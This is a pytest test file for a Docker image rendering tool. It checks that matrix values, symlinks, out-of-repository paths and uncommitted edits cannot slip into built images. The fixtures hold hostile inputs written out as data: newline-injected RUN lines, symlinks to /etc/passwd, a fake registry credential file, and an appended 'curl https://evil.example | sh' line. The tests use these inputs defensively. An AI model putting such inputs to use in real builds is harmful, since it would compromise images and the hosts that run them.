"""Nothing enters an image but the commit (issue 29): matrix values cannot become instructions,
links and paths cannot bring in host files, a clean tag is built only from committed files."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
from conftest import Project, git

BEFORE = "{name: H100, runpod_id: NVIDIA H100 80GB HBM3, arch: sm_90, flash_attention: 3}"


def render(cli, project: Project, *more: str):  # type: ignore[no-untyped-def]
    return cli("render", "--matrix", str(project.matrix), "--registry", "localhost:5000", *more)


def rendered_dockerfiles(project: Project) -> str:
    return "".join(p.read_text() for p in sorted((project.root / "build").glob("*/Dockerfile")))


# --- a matrix value cannot become an instruction -----------------------------------------------


@pytest.mark.parametrize(
    "name",
    ['"H100\\"\\nRUN touch /pwned #"', '"H100\\nRUN touch /pwned"', '"H100\\u2028RUN x"', '"H100\\""'],
)
def test_a_gpu_name_that_breaks_out_of_its_label_is_refused_with_its_line(  # type: ignore[no-untyped-def]
    cli, project: Project, name: str
) -> None:
    project.edit(BEFORE, BEFORE.replace("name: H100", f"name: {name}"))
    line = project.line_of("RUN") if "RUN" in name else project.line_of('H100\\"')
    for command in ("check", "render"):
        result = cli(command, "--matrix", str(project.matrix))
        assert result.code == 2, result.err
        assert f"{project.matrix}:{line}:" in result.err and "Traceback" not in result.err
    assert not (project.root / "build").exists()


def test_a_newline_in_free_text_is_refused_too(cli, project: Project) -> None:  # type: ignore[no-untyped-def]
    project.edit("version: 0.1.0\n", 'version: 0.1.0\n    description: "two\\nlines"\n', 1)
    project.edit("    description: PyTorch runtime", "    # description: PyTorch runtime")
    result = cli("check", "--matrix", str(project.matrix))
    assert result.code == 2 and "a newline" in result.err, result.err
    assert f":{project.line_of('two')}:" in result.err


def test_a_url_with_credentials_anywhere_is_refused(cli, project: Project) -> None:  # type: ignore[no-untyped-def]
    project.edit("source: https://github.com/", "source: https://bot:hunter2@github.com/")
    result = cli("check", "--matrix", str(project.matrix))
    assert result.code == 2 and "URL with credentials" in result.err
    assert "hunter2" not in result.err


# --- links and paths cannot bring in what is not the commit's -----------------------------------


@pytest.mark.parametrize("target", ["/etc/passwd", "../../matrix.yaml"])
def test_a_committed_link_in_a_template_is_refused_not_followed(cli, tiny: Project, target: str) -> None:  # type: ignore[no-untyped-def]
    (tiny.root / "images" / "tiny" / "passwd").symlink_to(target)
    git(tiny.root, "add", "-A")
    git(tiny.root, "commit", "-qm", "a link")
    result = render(cli, tiny)
    assert result.code == 2
    assert "images/tiny/passwd is a symbolic link" in result.err and target in result.err
    assert "root:" not in rendered_dockerfiles(tiny) if (tiny.root / "build").exists() else True
    assert not list((tiny.root / "build").rglob("passwd")) if (tiny.root / "build").exists() else True


def test_a_linked_directory_is_refused_not_dropped(cli, tiny: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "config.json").write_text('{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}')
    (tiny.root / "images" / "tiny" / "docker").symlink_to(outside)
    result = render(cli, tiny)  # uncommitted: a -dirty render reads the worktree, and refuses too
    assert result.code == 2 and "images/tiny/docker is a symbolic link" in result.err


@pytest.mark.parametrize("template", ["/tmp/evil", "../evil", "images/../../evil", "./images/tiny"])
def test_a_template_outside_the_repository_is_refused_at_load(cli, tiny: Project, template: str) -> None:  # type: ignore[no-untyped-def]
    tiny.edit("template: images/tiny", f"template: {template}")
    result = cli("check", "--matrix", str(tiny.matrix))
    assert result.code == 2
    assert f"{tiny.matrix}:{tiny.line_of('template:')}: images[0].template '{template}'" in result.err


def test_a_template_through_a_linked_directory_is_refused(cli, tiny: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "Dockerfile.j2").write_text("FROM python:3.11-slim\nCOPY . /\n")
    (tiny.root / "linked").symlink_to(tmp_path / "evil")
    tiny.edit("template: images/tiny", "template: linked")
    result = cli("check", "--matrix", str(tiny.matrix))
    assert result.code == 2 and "template linked is a symbolic link" in result.err


def test_an_ignored_copy_of_the_matrix_is_no_clean_revision(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    evil = tiny.root / "build" / "evil"
    evil.mkdir(parents=True)
    (evil / "matrix.yaml").write_text(tiny.matrix.read_text().replace("images/tiny", "../../images/tiny"))
    result = cli("render", "--matrix", str(evil / "matrix.yaml"), "--registry", "localhost:5000")
    assert result.code == 2  # its template path leaves its directory
    (evil / "images").mkdir()
    (tiny.root / "images" / "tiny").rename(evil / "images" / "tiny")
    shutil.copytree(tiny.root / "images" / "_shared", evil / "images" / "_shared")
    (evil / "matrix.yaml").write_text(tiny.matrix.read_text())
    result = cli("render", "--matrix", str(evil / "matrix.yaml"), "--registry", "localhost:5000")
    assert result.code == 0, result.err
    bake = json.loads((evil / "build" / "docker-bake.json").read_text())
    assert all(t["tags"][0].endswith("-dirty") for t in bake["target"].values())
    result = cli("build", "--matrix", str(evil / "matrix.yaml"), "--registry", "localhost:1")
    assert result.code == 2 and "build/evil/matrix.yaml" in result.err and "--allow-dirty" in result.err


def test_a_clean_render_reads_the_commit_not_the_worktree(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    """An ignored file beside the template is in no commit: it is not in the clean render."""
    (tiny.root / ".gitignore").write_text("/build/\n*.local\n")
    git(tiny.root, "commit", "-qam", "ignore *.local")
    (tiny.root / "images" / "tiny" / "secret.local").write_text("token\n")
    result = render(cli, tiny, "--commit", tiny.commit)
    bake = json.loads((tiny.root / "build" / "docker-bake.json").read_text())
    assert result.code == 0 and all(t["tags"][0].endswith("-dirty") for t in bake["target"].values())
    (tiny.root / "images" / "tiny" / "secret.local").unlink()
    dockerfile = tiny.root / "images" / "tiny" / "Dockerfile.j2"
    committed = dockerfile.read_text()
    assert render(cli, tiny).code == 0
    bake = json.loads((tiny.root / "build" / "docker-bake.json").read_text())
    assert not any(t["tags"][0].endswith("-dirty") for t in bake["target"].values())
    assert not list((tiny.root / "build").rglob("secret.local"))
    assert (tiny.root / "build" / "tiny-slim" / "Dockerfile").read_text().startswith(committed[:0])


def test_commit_names_a_commit_of_the_repository(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    absent = render(cli, tiny, "--commit", "1" * 40)
    assert absent.code == 2 and "not a commit of this repository" in absent.err
    tree = git(tiny.root, "rev-parse", "HEAD^{tree}")
    as_tree = render(cli, tiny, "--commit", tree)
    assert as_tree.code == 2 and "a tree, not a commit" in as_tree.err
    assert not (tiny.root / "build").exists()


def test_commit_with_changes_since_it_is_dirty(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    first = tiny.commit
    tiny.edit("version: 0.0.1", "version: 0.0.2")
    result = render(cli, tiny, "--commit", first)
    assert result.code == 0, result.err
    bake = json.loads((tiny.root / "build" / "docker-bake.json").read_text())
    assert all(t["tags"][0].endswith(f"{first}-dirty") for t in bake["target"].values())


@pytest.mark.parametrize("build_dir", ["images", ".", "images/tiny", ".."])
def test_a_build_dir_over_tracked_files_is_refused(cli, tiny: Project, build_dir: str) -> None:  # type: ignore[no-untyped-def]
    before = git(tiny.root, "status", "--porcelain")
    result = render(cli, tiny, "--build-dir", str(tiny.root / build_dir))
    assert result.code == 2 and "--build-dir" in result.err, result.err
    assert git(tiny.root, "status", "--porcelain") == before


def test_an_ignored_lock_of_the_matrix_is_no_clean_revision(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    (tiny.root / ".gitignore").write_text("/build/\nmatrix.lock\n")
    git(tiny.root, "commit", "-qam", "ignore the lock")
    (tiny.root / "matrix.lock").write_text('{"version": 1, "bases": {}, "kernels": {}}\n')
    result = cli("build", "--matrix", str(tiny.matrix), "--registry", "localhost:1")
    assert result.code == 2 and "matrix.lock" in result.err and "--allow-dirty" in result.err


@pytest.mark.parametrize("flag", ["--skip-worktree", "--assume-unchanged"])
def test_a_change_git_is_told_to_overlook_still_makes_the_revision_dirty(
    cli, tiny: Project, flag: str
) -> None:  # type: ignore[no-untyped-def]
    for name in ("matrix.yaml", "images/tiny/app/app.py"):
        git(tiny.root, "update-index", flag, name)
    tiny.edit("version: 0.0.1", "version: 0.0.9")
    result = render(cli, tiny)
    assert result.code == 0, result.err
    bake = json.loads((tiny.root / "build" / "docker-bake.json").read_text())
    assert all(t["tags"][0].endswith("-dirty") for t in bake["target"].values())
    app = tiny.root / "images" / "tiny" / "app" / "app.py"
    tiny.edit("version: 0.0.9", "version: 0.0.1")
    app.write_text(app.read_text() + "import os; os.system('id')\n")
    refused = cli("build", "--matrix", str(tiny.matrix), "--registry", "localhost:1")
    assert refused.code == 2 and "images/tiny/app/app.py (differs from the commit)" in refused.err


def test_a_rendering_edited_by_hand_is_written_anew(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    assert render(cli, tiny).code == 0
    dockerfile = tiny.root / "build" / "tiny-slim" / "Dockerfile"
    clean = dockerfile.read_text()
    dockerfile.write_text(clean + "RUN curl https://evil.example | sh\n")
    assert render(cli, tiny).code == 0
    assert dockerfile.read_text() == clean


def test_a_same_size_edit_is_found_also_with_its_mtime_put_back(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    """A re-render trusts a file by its status only where the status is the one written (the size,
    mtime, ctime and inode recorded after writing): an edit that keeps the size, at once (in the
    stamp's clock tick) or later with the old mtime put back, is still found and written anew."""
    assert render(cli, tiny).code == 0
    dockerfile = tiny.root / "build" / "tiny-slim" / "Dockerfile"
    clean = dockerfile.read_bytes()
    before = dockerfile.stat()
    tampered = clean.replace(b"FROM", b"FRUM", 1)
    assert len(tampered) == len(clean) and tampered != clean
    with dockerfile.open("r+b") as stream:  # in place: the inode stays
        stream.write(tampered)
    os.utime(dockerfile, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert render(cli, tiny).code == 0
    assert dockerfile.read_bytes() == clean
    with dockerfile.open("r+b") as stream:  # right after a render: within the stamp's tick
        stream.write(tampered)
    assert render(cli, tiny).code == 0
    assert dockerfile.read_bytes() == clean


def test_a_value_the_matrix_leaves_out_is_refused_where_it_would_render_none(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    """StrictUndefined lets None through, and the image would get ENV MODEL_VOLUME_PATH=None."""
    template = tiny.root / "images" / "tiny" / "Dockerfile.j2"
    template.write_text(template.read_text() + "ENV MODEL_VOLUME_PATH={{ image.model }}\n")
    result = render(cli, tiny)
    assert result.code == 2 and "renders as None" in result.err, result.err
    assert "images/tiny/Dockerfile.j2:9" in result.err and "Traceback" not in result.err
    assert not (tiny.root / "build" / "tiny-slim").exists()
    guarded = "{% if image.model %}ENV MODEL_VOLUME_PATH={{ image.model }}\n{% endif %}"
    template.write_text(template.read_text().replace("ENV MODEL_VOLUME_PATH={{ image.model }}\n", guarded))
    assert render(cli, tiny).code == 0


def test_kernels_from_this_machine_make_the_revision_dirty(cli, project: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "kernels").mkdir()
    result = render(cli, project, "--kernels-local", str(tmp_path / "kernels"))
    assert result.code == 0, result.err
    bake = json.loads((project.root / "build" / "docker-bake.json").read_text())
    assert all(t["tags"][0].endswith("-dirty") for t in bake["target"].values())


def test_a_build_dir_inside_a_tracked_directory_is_refused(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    result = render(cli, tiny, "--build-dir", str(tiny.root / "images" / "tiny" / "out"))
    assert result.code == 2 and "inside images/tiny/, which the repository tracks" in result.err
    assert not (tiny.root / "images" / "tiny" / "out").exists()
    assert render(cli, tiny, "--build-dir", str(tiny.root / "out" / "build")).code == 0  # untracked: fine


def test_build_args_reach_a_template_only_as_build_args(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
    tiny.edit(
        "    needs_torch: false\n",
        "    needs_torch: false\n    args: {GREETING: 'hi HF_ENDPOINT=https://evil.example'}\n",
    )
    template = tiny.root / "images" / "tiny" / "Dockerfile.j2"
    template.write_text(template.read_text() + "ENV GREETING={{ image.args.GREETING }}\n")
    result = cli("check", "--matrix", str(tiny.matrix))
    assert result.code == 2 and "undefined template variable" in result.err
    template.write_text(
        template.read_text()
        .replace("{{ image.args.GREETING }}", '"${GREETING}"')
        .replace("ENV GREETING", "ARG GREETING\nENV GREETING")
    )
    assert cli("check", "--matrix", str(tiny.matrix)).code == 0


def test_the_lock_is_never_opened_through_a_link(cli, tiny: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me\n")
    (tiny.root / "build").mkdir()
    (tiny.root / "build" / ".buildtool.lock").symlink_to(precious)
    result = render(cli, tiny)
    assert result.code == 2 and ".buildtool.lock" in result.err
    assert precious.read_text() == "keep me\n"
